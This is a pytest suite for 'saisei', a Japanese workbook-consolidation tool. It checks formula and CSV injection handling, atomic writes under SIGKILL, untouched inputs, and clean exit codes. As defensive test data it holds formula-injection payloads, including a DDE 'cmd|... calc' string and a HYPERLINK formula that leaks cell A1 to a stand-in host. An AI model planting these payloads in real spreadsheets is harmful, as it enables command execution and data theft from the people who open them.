"""What a hostile run leaves behind: text stays text, outputs are replaced whole or not at
all (even when the process is killed), inputs are never touched, exit 1 and no traceback.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import hostile_kit as kit
import pytest
from click.testing import CliRunner

import saisei
from saisei.cli import main

OUTPUTS = ("report.xlsx", "values.csv", "values.parquet")  # at least these; every visible file is compared
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def snapshot(folder: Path) -> dict[str, tuple[str, int]]:
    """Every file below ``folder``: content hash and modification time."""
    return {
        str(p.relative_to(folder)): (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns)
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def outputs(folder: Path) -> dict[str, bytes]:
    """Every output in ``folder`` (not the hidden temporary files), checked to be whole."""
    found = {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if not p.name.startswith(".")}
    assert set(OUTPUTS) <= set(found), found.keys()
    with zipfile.ZipFile(io.BytesIO(found["report.xlsx"])) as report:
        assert report.testzip() is None
    return found


# -- formulas and CSV injection ----------------------------------------------------------------


def test_text_from_workbooks_is_never_a_formula(tmp_path: Path) -> None:
    folder = tmp_path / "提出"
    names = {"=1+1.xlsx": 1, "+SUM(1).xlsx": 2, "-2+3.xlsx": 3, "@SUM(A1).xlsx": 4}
    for name, kpi in names.items():
        kit.write(folder, name, kit.standard_form([("060003", "山形県", 2024, f"KPI{kpi}", kpi, "確定", "=1+1")]))
    payload = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    kit.write(
        folder,
        "=cmd|' -C calc'!A0.xlsx",
        kit.standard_form([("062031", "鶴岡市", 2024, "KPI1", payload, "確定", None)]),
    )
    kit.write(folder, "\tx.xlsx", kit.standard_form([("062049", "酒田市", 2024, "KPI1", 1, "確定", "@x")]))
    result = saisei.consolidate([folder])
    assert result.values.height == 5
    assert any(payload in i.message for i in result.errors)
    result.write(tmp_path / "out")

    with zipfile.ZipFile(tmp_path / "out" / "report.xlsx") as report:
        # Cell formulas live in the worksheets (a chart's series refer to cells with <f> too).
        xml = b"".join(report.read(n) for n in report.namelist() if n.startswith("xl/worksheets/")).decode()
        strings = b"".join(report.read(n) for n in report.namelist() if n.startswith("xl/")).decode()
    assert "<f>" not in xml and "<f " not in xml and "<f/>" not in xml
    assert "=cmd|" in strings and "=1+1.xlsx" in strings  # there, as text

    from openpyxl import load_workbook

    book = load_workbook(tmp_path / "out" / "report.xlsx")
    texts = [c for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in texts if c.value.startswith(DANGEROUS)]
    assert risky, "the test should put text starting with = into the report"
    assert all(c.data_type in ("s", "inlineStr") for c in risky)

    text = (tmp_path / "out" / "values.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)], rows
    assert sum(c.startswith("'") for c in cells) == 4  # every source column starting as a formula, prefixed
    assert any(c.startswith("\\x09x.xlsx!") for c in cells), rows  # a tab in a file name: a visible escape


# -- atomic outputs -----------------------------------------------------------------------------


def test_a_writer_failing_midway_leaves_the_previous_outputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = saisei.consolidate([kit.write(tmp_path / "a", "a.xlsx", kit.standard_form([kit.GOOD_ROW]))])
    first.write(tmp_path / "out")
    before = outputs(tmp_path / "out")
    second = saisei.consolidate(
        [kit.write(tmp_path / "b", "b.xlsx", kit.standard_form([(*kit.GOOD_ROW[:4], 9, "確定", None)]))]
    )

    real_fdopen = os.fdopen
    opened: list[str] = []

    class DiskFull:
        def __init__(self, handle: io.BufferedWriter) -> None:
            self.handle = handle

        def __enter__(self) -> DiskFull:
            return self

        def __exit__(self, *exc: object) -> None:
            self.handle.close()

        def write(self, data: bytes) -> int:
            self.handle.write(data[: len(data) // 2])
            raise OSError(28, "No space left on device")

    def fdopen(fd: int, *args: object, **kwargs: object) -> object:
        handle = real_fdopen(fd, *args, **kwargs)  # type: ignore[call-overload]
        opened.append("x")
        return DiskFull(handle) if len(opened) == 2 else handle  # the second output: values.csv

    monkeypatch.setattr(os, "fdopen", fdopen)
    with pytest.raises(OSError, match="No space"):
        second.write(tmp_path / "out")
    monkeypatch.undo()
    assert outputs(tmp_path / "out") == before
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(before)  # no temporary left


KILLER = r"""
import os, signal, sys

point, args = sys.argv[1], sys.argv[2:]
real_fdopen, real_replace = os.fdopen, os.replace


def die():
    os.kill(os.getpid(), signal.SIGKILL)


class Half:
    def __init__(self, handle):
        self.handle = handle

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.handle.close()

    def write(self, data):
        self.handle.write(data[: len(data) // 2])
        self.handle.flush()
        die()


def fdopen(fd, *a, **k):
    handle = real_fdopen(fd, *a, **k)
    target = os.readlink(f"/proc/self/fd/{fd}")
    if (point == "half-report" and ".report.xlsx." in target) or (point == "half-parquet" and ".values.parquet." in target):
        return Half(handle)
    return handle


replaced = []


def replace(src, dst):
    real_replace(src, dst)
    replaced.append(dst)
    if point == "between-renames" and len(replaced) == 1:
        die()


os.fdopen, os.replace = fdopen, replace
from saisei.cli import main

sys.argv = ["saisei", *args]
main()
"""


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Inputs A (the samples) and B (the samples and one more form), with A's outputs."""
    base = tmp_path_factory.mktemp("runs")
    a = kit.copy_examples(base / "A")
    b = kit.copy_examples(base / "B")
    kit.write(b, "追加.xlsx", kit.standard_form([("060003", "山形県", 2025, "KPI1", 5, "見込み", None)]))
    for name, folder in (("A", a), ("B", b)):
        done = CliRunner().invoke(main, ["consolidate", str(folder), "--out", str(base / f"out-{name}")])
        assert done.exit_code in (0, 1), done.output
    return {"A": a, "B": b, "out-A": base / "out-A", "out-B": base / "out-B"}


@pytest.mark.skipif(not Path("/proc/self/fd").exists(), reason="finds the file being written through /proc")
@pytest.mark.parametrize("point", ["half-report", "half-parquet", "between-renames"])
def test_a_run_killed_while_writing(tmp_path: Path, runs: dict[str, Path], point: str) -> None:
    out = tmp_path / "out"
    out.mkdir()
    for path in runs["out-A"].iterdir():
        (out / path.name).write_bytes(path.read_bytes())
    before_inputs = snapshot(runs["B"])
    done = subprocess.run(
        [sys.executable, "-c", KILLER, point, "consolidate", str(runs["B"]), "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == -signal.SIGKILL, done.stderr
    old, new = outputs(runs["out-A"]), outputs(runs["out-B"])
    assert old != new
    now = outputs(out)
    for name in new:
        assert now[name] in (old[name], new[name]), name  # whole, old or new: never half
    if point != "between-renames":
        assert now == old  # nothing was renamed before every file was on disk
    else:
        assert now["report.xlsx"] == new["report.xlsx"] and now["values.csv"] == old["values.csv"]
    leftovers = [p.name for p in out.iterdir() if p.name not in new]
    assert all(p.startswith(".") and p.endswith(".tmp") for p in leftovers), leftovers
    assert snapshot(runs["B"]) == before_inputs

    # The next run replaces everything and removes what the killed run left.
    again = CliRunner().invoke(main, ["consolidate", str(runs["B"]), "--out", str(out)])
    assert again.exit_code in (0, 1)
    assert outputs(out) == new
    assert sorted(p.name for p in out.iterdir()) == sorted(new)


def test_a_run_killed_at_any_moment(tmp_path: Path, runs: dict[str, Path]) -> None:
    """SIGKILL from outside, part way through a real run: outputs old or new, never half."""
    out = tmp_path / "out"
    out.mkdir()
    for path in runs["out-A"].iterdir():
        (out / path.name).write_bytes(path.read_bytes())
    old, new = outputs(runs["out-A"]), outputs(runs["out-B"])
    command = [sys.executable, "-m", "saisei.cli", "consolidate", str(runs["B"]), "--out", str(out)]
    started = time.perf_counter()
    subprocess.run(command, capture_output=True, timeout=120)
    whole = time.perf_counter() - started
    for path in runs["out-A"].iterdir():
        (out / path.name).write_bytes(path.read_bytes())
    for fraction in (0.8, 0.97):
        process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(whole * fraction)
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=60)
        now = outputs(out)
        for name in new:
            assert now[name] in (old[name], new[name]), (fraction, name)


def test_inputs_are_never_modified(tmp_path: Path) -> None:
    folder = kit.copy_examples(tmp_path / "提出")
    for name, data in kit.hostile_files().items():
        kit.write(folder, name, data)
    os.chmod(folder / "山形県_標準様式_R6.xlsx", 0o444)
    before = snapshot(folder)
    done = CliRunner().invoke(main, ["consolidate", str(folder), "--out", str(tmp_path / "out"), "--json"])
    assert done.exit_code == 1
    assert snapshot(folder) == before


# -- exit status, no traceback ----------------------------------------------------------------


@pytest.mark.parametrize("name", list(kit.hostile_files()))
def test_each_hostile_file_exit_1_without_traceback(tmp_path: Path, name: str) -> None:
    path = kit.write(tmp_path / "in", name, kit.hostile_files()[name])
    for command in (["consolidate", str(path), "--out", str(tmp_path / "out")], ["validate", str(path)]):
        done = CliRunner().invoke(main, command)
        assert done.exit_code == 1, (done.output, done.exception)
        assert isinstance(done.exception, SystemExit)
        assert "Traceback" not in done.output and "Traceback" not in done.stderr
        assert "内部エラー" not in done.stderr
        assert f"[エラー] {name}" in done.stderr


def test_all_hostile_files_beside_the_samples_in_a_real_process(tmp_path: Path) -> None:
    """The whole story as a new user would meet it, the 1 GiB bomb included: exit 1, each
    file named, the samples' values as without the hostile files, no traceback, seconds,
    and peak memory far under 1 GiB."""
    import json

    clean = kit.copy_examples(tmp_path / "clean")
    folder = kit.copy_examples(tmp_path / "提出")
    files = kit.hostile_files(bomb=True)
    for name, data in files.items():
        kit.write(folder, name, data)
    command = [sys.executable, "-c", kit.PEAK_AT_EXIT + "from saisei.cli import main\nmain()", "consolidate"]
    baseline = subprocess.run(
        [*command, str(clean), "--out", str(tmp_path / "o1"), "--json"], capture_output=True, text=True, timeout=120
    )
    started = time.perf_counter()
    done = subprocess.run(
        [*command, str(folder), "--out", str(tmp_path / "o2"), "--json"], capture_output=True, text=True, timeout=120
    )
    elapsed = time.perf_counter() - started
    peak_mib = kit.peak_mib(done.stderr)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert elapsed < 20
    assert peak_mib < 600, peak_mib
    report = json.loads(done.stdout)
    named = {i["file"] for i in report["issues"] if i["severity"] == "error"}
    assert set(files) <= named, set(files) - named
    assert report["values"] == json.loads(baseline.stdout)["values"]


def test_a_bug_while_reading_one_file_is_an_error_for_that_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A traceback is a bug: one line naming the file, the run goes on; --debug shows it."""
    import saisei.pipeline

    folder = kit.copy_examples(tmp_path / "提出")
    real = saisei.pipeline.open_workbook

    def flaky(path: Path, limits: object = None) -> object:
        if path.name.startswith("山形県"):
            raise KeyError("a bug")
        return real(path, limits)  # type: ignore[arg-type]

    monkeypatch.setattr(saisei.pipeline, "open_workbook", flaky)
    done = CliRunner().invoke(main, ["consolidate", str(folder), "--out", str(tmp_path / "out"), "--json"])
    assert done.exit_code == 1
    assert "Traceback" not in done.stderr
    assert "[エラー] 山形県_標準様式_R6.xlsx: saisei の内部エラー" in done.stderr
    import json

    report = json.loads(done.stdout)
    assert {v["entity_code"] for v in report["values"]} - {"060003"}  # the other bodies still consolidate
    assert "060003" not in {v["entity_code"] for v in report["values"]}

    debug = CliRunner().invoke(main, ["validate", str(folder), "--debug"])
    assert debug.exit_code == 1
    assert "Traceback" in debug.stderr and "KeyError: 'a bug'" in debug.stderr
